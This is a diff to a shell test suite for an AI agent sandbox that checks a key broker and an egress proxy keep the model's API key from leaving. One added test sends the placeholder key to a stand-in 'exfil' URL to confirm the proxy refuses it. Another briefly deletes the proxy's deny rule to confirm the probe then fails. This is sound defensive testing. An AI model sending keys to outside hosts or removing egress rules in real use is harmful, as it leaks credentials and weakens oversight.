@@ -165,7 +165,7 @@ no_token_in() { # WHAT FILE...
 probe_result() { grep -o "^\(ok\|FAIL\) \[$1\]" "$work/run.err" | cut -d' ' -f1; }
 PROBES="token-config-control token-config-mode token-config-dir-mode token-files token-processes token-runner-file"
 CONTAINER_PROBES="token-container-control token-container-subuid-control token-container-subuid"
-KEY_PROBES="api-key-control api-key-files api-key-processes"
+KEY_PROBES="api-key-control api-key-files api-key-processes broker-egress-control broker-egress"
 
 # ---------------------------------------------------------------------------------------------------------
 for confine in bubblewrap none; do
@@ -363,6 +363,8 @@ echo "other-path: $(code /dev/null -H "x-api-key: $key" -d '{}' "$AJT_API_URL/up
 echo "dot-segments: $(code /dev/null --path-as-is -H "x-api-key: $key" -d '{}' "$AJT_API_URL/upload/v1/../other")" >>"$r"
 # Past the broker, straight to the API through the proxy: what arrives there is the placeholder.
 echo "direct: $(code /dev/null -H "x-api-key: $key" -d '{}' https://upload.fake.test/upload/v1/direct)" >>"$r"
+# The placeholder to another host, in a GET's query (a read anyone may make): the proxy refuses it.
+echo "elsewhere: $(code /dev/null "https://www.fake.test/exfil?k=$key")" >>"$r"
 # The key by its shape (the test's keys are sk-ajt- and 32 hexadecimal digits) wherever this agent can
 # read: every process's command line and environment, every file of the places a key could be left.
 found=$({
@@ -397,15 +399,13 @@ expect_eq "... a wrong placeholder: 401 from the broker" 401 "$(rec wrong-placeh
 expect_eq "... no key header: 401" 401 "$(rec no-key)"
 expect_eq "... a path outside the API's: 404" 404 "$(rec other-path)"
 expect_eq "... dot segments: 404" 404 "$(rec dot-segments)"
-expect_eq "... straight to the API, past the broker: the proxy lets it through (a write rule admits it)" 200 "$(rec direct)"
+expect_eq "... straight to the API, past the broker: the proxy refuses the placeholder (403), though a write rule admits the POST" 403 "$(rec direct)"
+expect_eq "... the placeholder in a GET's query to another host: refused (403)" 403 "$(rec elsewhere)"
 arrived_now=$(api_arrived | tail -n +"$((before + 1))")
 printf '%s\n' "$arrived_now" | sed 's/^/# arrived: /'
-expect_eq "at the API: the request and the stream, each with the key, no Bearer; nothing the broker refused" \
+expect_eq "at the API: the request and the stream, each with the key, no Bearer; nothing the broker or the proxy refused" \
         "/upload/v1/messages $TOKEN_SHA -
-/upload/v1/_ajh/sse $TOKEN_SHA -" "$(printf '%s\n' "$arrived_now" | grep -v '^/upload/v1/direct ')"
-direct_line=$(printf '%s\n' "$arrived_now" | grep '^/upload/v1/direct ')
-expect_eq "... the direct one arrived, once" 1 "$(printf '%s\n' "$direct_line" | grep -c .)"
-expect_lacks "... without the key: the placeholder is all the agent had" "$TOKEN_SHA" "$direct_line"
+/upload/v1/_ajh/sse $TOKEN_SHA -" "$arrived_now"
 # Streaming: the first event reached the agent before the API sent the last one (a second apart).
 first_seen=$(grep '^event: ' "$R" | head -n1 | awk '{print $2}')
 last_sent=$(grep '^event: ' "$R" | tail -n1 | sed 's/.*"at": \([0-9.]*\).*/\1/')
@@ -416,6 +416,9 @@ expect_contains "summary.json: the key's way" '"token": "broker"' "$(cat "$OUT/s
 expect_eq "summary.json: the broker's requests, and the tokens the answers said they used (3 + 11 in, 2 + 7 out)" '{"budget": null, "cost": null, "forwarded": 2, "input-tokens": 14, "max-requests": null, "output-tokens": 9, "over-budget": 0, "over-max-requests": 0, "refused": 4, "unpriced": 0}' \
         "$(python3 -c 'import json, sys; print(json.dumps(json.load(open(sys.argv[1]))["api-requests"], sort_keys=True))' "$OUT/summary.json" 2>&1)"
 expect_contains "summary.md: says so" "held by the key broker; the agent had a placeholder" "$(cat "$OUT/summary.md" 2>&1)"
+expect_contains "the egress log: the placeholder sent past the broker, refused with its reason" \
+        '"host":"upload.fake.test","path":"/upload/v1/direct","decision":"deny","reason":"the key broker'"'"'s placeholder' \
+        "$(cat "$OUT/egress.jsonl" 2>&1)"
 expect_contains "the egress log: the broker's request, decided by the proxy" \
         '"method":"POST","host":"upload.fake.test","path":"/upload/v1/messages","decision":"allow"' \
         "$(cat "$OUT/egress.jsonl" 2>&1)"
@@ -449,9 +452,8 @@ R=$OUT/workspace/out/api.txt
 expect_eq "... the first request went through" 200 "$(rec messages)"
 expect_eq "... the stream after it: no event" 0 "$(grep -c '^event: ' "$R" 2>/dev/null)"
 expect_eq "... the rest refused by the broker as before" "401 404" "$(rec wrong-placeholder) $(rec other-path)"
-expect_eq "... at the API: the first request only (and the direct one, which the broker never saw)" \
-        "/upload/v1/messages
-/upload/v1/direct" "$(api_arrived | tail -n +"$((before + 1))" | cut -d' ' -f1)"
+expect_eq "... at the API: the first request only" \
+        "/upload/v1/messages" "$(api_arrived | tail -n +"$((before + 1))" | cut -d' ' -f1)"
 expect_contains "... the run says why" "[run] max-requests (1) reached: the key broker refused" "$(cat "$work/run.err")"
 expect_contains "... summary.json: limit-hit" '"result": "limit-hit"' "$(cat "$OUT/summary.json" 2>&1)"
 expect_eq "... and the broker's count" '{"budget": null, "cost": null, "forwarded": 1, "input-tokens": 3, "max-requests": 1, "output-tokens": 2, "over-budget": 0, "over-max-requests": 1, "refused": 5, "unpriced": 0}' \
@@ -469,9 +471,8 @@ expect_eq "budget: status 3 (limit-hit)" 3 "$status"
 R=$OUT/workspace/out/api.txt
 expect_eq "... the first request went through" 200 "$(rec messages)"
 expect_eq "... the stream after it: no event" 0 "$(grep -c '^event: ' "$R" 2>/dev/null)"
-expect_eq "... at the API: the first request only (and the direct one, which the broker never saw)" \
-        "/upload/v1/messages
-/upload/v1/direct" "$(api_arrived | tail -n +"$((before + 1))" | cut -d' ' -f1)"
+expect_eq "... at the API: the first request only" \
+        "/upload/v1/messages" "$(api_arrived | tail -n +"$((before + 1))" | cut -d' ' -f1)"
 expect_contains "... the run says why" "[run] budget (0.000008) reached (the answers cost 0.000009): the key broker refused 1 more request" "$(cat "$work/run.err")"
 expect_contains "... summary.json: limit-hit" '"result": "limit-hit"' "$(cat "$OUT/summary.json" 2>&1)"
 expect_eq "... and the broker's count, with the cost" '{"budget": "0.000008", "cost": "0.000009", "forwarded": 1, "input-tokens": 3, "max-requests": null, "output-tokens": 2, "over-budget": 1, "over-max-requests": 0, "refused": 5, "unpriced": 0}' \
@@ -487,10 +488,12 @@ expect_eq "budget without the broker: status 2" 2 "$status"
 expect_contains "... saying so" "[run] budget is kept by the key broker, and this run has none" "$(cat "$work/run.err")"
 expect_eq "... nothing made: no --out" no "$([ -e "$OUT" ] && echo yes || echo no)"
 
-# Each key probe's protection removed: the key where the sandbox user can read it, put there by a test
-# profile's login (the key written into its text by the test: the sandbox side is never given it): a copy
-# in a file of the run's home, a process with it on its command line. Exactly that probe fails, naming
-# the place, and the agent never starts. The key probes are given the key's print, never the key.
+# The key where the sandbox user can read it, put there by a test profile's login (the key written into
+# its text by the test: the sandbox side is never given it): a copy in a file of the run's home. Exactly
+# api-key-files fails, naming the place, and the agent never starts. (api-key-processes has no such test:
+# with the broker, the login and the setup command run in the confinement's PID namespace and end with it,
+# kill-user ended the rest, and the enter's /proc shows no other user's process; what it searches is the
+# unit test's, a process with the key on its command line found by its print, and its control's.)
 expect_only_key_failing() { # WHAT PROBE
         expect_eq "$1: status 4 (not started)" 4 "$status"
         for p in $KEY_PROBES; do
@@ -522,13 +525,22 @@ run_as_runner "$OUT" "$work/token" --profile ajt-key-file --token-stdin --output
 show
 expect_only_key_failing "the key in a file of the run's home" api-key-files
 expect_contains "... naming it" "/home/.ajt-key-copy" "$(grep '^FAIL \[api-key-files\]' "$work/run.err")"
-api_leak_profile ajt-key-argv "setsid sh -c \"touch \${HOME}/.leak-key; sleep 300; : $TOKEN\" </dev/null >/dev/null 2>&1 & i=0; while [ ! -e \${HOME}/.leak-key ] && [ \$i -lt 200 ]; do sleep 0.05; i=\$((i + 1)); done"
-OUT=$RUNNER_HOME/key-process
-run_as_runner "$OUT" "$work/token" --profile ajt-key-argv --token-stdin --output out/api.txt
+# broker-egress's protection removed: the proxy's rule for the placeholder taken out of the installed
+# template and the proxy restarted; broker-egress fails (its control passes), the agent never starts.
+SQUID_TEMPLATE=/usr/local/share/agentic-job/squid/squid.conf.in
+cp -p "$SQUID_TEMPLATE" "$work/squid.conf.in.orig"
+on_exit "cp -p $work/squid.conf.in.orig $SQUID_TEMPLATE"
+sed -i '/^http_access deny egress_placeholder_/d' "$SQUID_TEMPLATE"
+{ "$CLIENT" egress stop && "$CLIENT" egress start; } >"$work/proxy.out" 2>&1 || fail "the proxy did not restart without the placeholder's rule"
+OUT=$RUNNER_HOME/key-egress
+run_as_runner "$OUT" "$work/token" --profile ajt-api --token-stdin --output out/api.txt
 show
-expect_only_key_failing "the key on a command line of the sandbox user's" api-key-processes
-expect_contains "... naming it" "the model's key is in pid " "$(grep '^FAIL \[api-key-processes\]' "$work/run.err")"
-# The control of both: nothing planted, every key probe passes, the control's decoy found by its print.
+expect_only_key_failing "the proxy without its rule for the placeholder" broker-egress
+expect_contains "... naming what the proxy answered" "with the placeholder in x-api-key and the query: status 200" \
+        "$(grep '^FAIL \[broker-egress\]' "$work/run.err")"
+cp -p "$work/squid.conf.in.orig" "$SQUID_TEMPLATE"
+{ "$CLIENT" egress stop && "$CLIENT" egress start; } >"$work/proxy.out" 2>&1 || fail "the proxy did not restart"
+# The control: nothing planted, every key probe passes, the control's decoy found by its print.
 OUT=$RUNNER_HOME/key-none
 run_as_runner "$OUT" "$work/token" --profile ajt-api --token-stdin --output out/api.txt
 expect_eq "the control: nothing planted, status 0" 0 "$status"
